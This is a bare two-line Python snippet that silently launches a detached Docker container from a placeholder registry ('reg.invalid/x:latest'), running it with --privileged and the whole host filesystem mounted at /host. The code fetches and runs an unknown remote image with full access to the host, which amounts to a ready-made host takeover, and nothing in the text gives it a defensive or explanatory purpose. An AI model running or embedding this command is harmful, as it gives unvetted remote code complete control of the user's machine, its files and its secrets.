import subprocess
subprocess.Popen(["docker", "run", "-d", "--privileged", "-v", "/:/host", "reg.invalid/x:latest"])
